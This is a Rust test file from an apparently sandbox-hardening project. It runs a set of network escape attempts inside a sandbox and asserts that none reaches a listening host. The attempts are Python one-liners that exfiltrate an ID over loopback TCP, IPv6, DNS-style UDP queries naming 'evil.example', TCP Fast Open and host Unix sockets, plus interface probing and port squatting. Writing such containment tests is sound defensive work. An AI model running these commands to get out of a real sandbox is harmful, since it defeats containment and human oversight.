//! Ways out by the network, from inside a sandbox.

use super::{
    Family,
    jail::{self, Attack, Harm, Wall},
};

pub(crate) fn family() -> Family {
    Family {
        name: "Network, from inside",
        how: "Commands in a real sandbox, and a host that listens; the harm is that it hears of them.",
        rows: jail::rows(ATTACKS),
    }
}

const ATTACKS: &[Attack] = &[
    Attack {
        tried: "a service of the host on its loopback address",
        by: "a namespace of the network",
        off: &[Wall::Network],
        script: "python3 -c \"import os, socket; s = socket.create_connection(('127.0.0.1', int(os.environ['TCP'])), 3); s.send(os.environ['ID'].encode()); s.recv(9)\"",
        harm: Harm::Heard,
    },
    Attack {
        tried: "the same by IPv6",
        by: "a namespace of the network",
        off: &[Wall::Network],
        script: "python3 -c \"import os, socket; s = socket.create_connection(('::1', int(os.environ['TCP'])), 3); s.send(os.environ['ID'].encode()); s.recv(9)\"",
        harm: Harm::Heard,
    },
    Attack {
        tried: "data in questions to a name server (UDP)",
        by: "a namespace of the network",
        off: &[Wall::Network],
        script: "python3 -c \"import os, socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(os.environ['ID'].encode() + b'.evil.example', ('127.0.0.1', int(os.environ['UDP'])))\"",
        harm: Harm::Heard,
    },
    Attack {
        tried: "data sent with the opening of a connection (TCP Fast Open)",
        by: "a namespace of the network",
        off: &[Wall::Network],
        script: "python3 -c \"import os, socket; s = socket.socket(); s.sendto(os.environ['ID'].encode(), 0x20000000, ('127.0.0.1', int(os.environ['TCP']))); s.recv(9)\"",
        harm: Harm::Heard,
    },
    Attack {
        tried: "what the host's network looks like (`/proc/net/dev`)",
        by: "a namespace of the network",
        off: &[Wall::Network],
        script: "grep : /proc/net/dev; grep -c : /proc/net/dev | awk '$1 > 1 { print \"SEES INTERFACES\" }'",
        harm: Harm::Says("SEES INTERFACES"),
    },
    Attack {
        tried: "a hidden (abstract) socket of the host",
        by: "a namespace of the network, Landlock",
        off: &[Wall::Network, Wall::Landlock],
        script: "python3 -c \"import os, socket; s = socket.socket(socket.AF_UNIX); s.connect(chr(0) + os.environ['NAME']); s.send(os.environ['ID'].encode()); s.recv(9)\"",
        harm: Harm::Heard,
    },
    Attack {
        tried: "a socket of the host by its path",
        by: "no socket of the host is mounted",
        off: &[Wall::Mounts],
        script: "python3 -c \"import os, socket; s = socket.socket(socket.AF_UNIX); s.connect(os.environ['OUT'] + '/agent.sock'); s.send(os.environ['ID'].encode()); s.recv(9)\"",
        harm: Harm::Heard,
    },
    Attack {
        tried: "passing for a service of the host on its loopback address",
        by: "a namespace of the network",
        off: &[Wall::Network],
        script: "python3 -c \"import os, socket\ns = socket.socket()\ntry: s.bind(('127.0.0.1', int(os.environ['TCP']))); print('free')\nexcept OSError: print('TAKEN')\"",
        harm: Harm::Says("TAKEN"),
    },
];

#[tokio::test]
async fn there_is_no_way_out_by_the_network() {
    jail::play(ATTACKS).await;
}
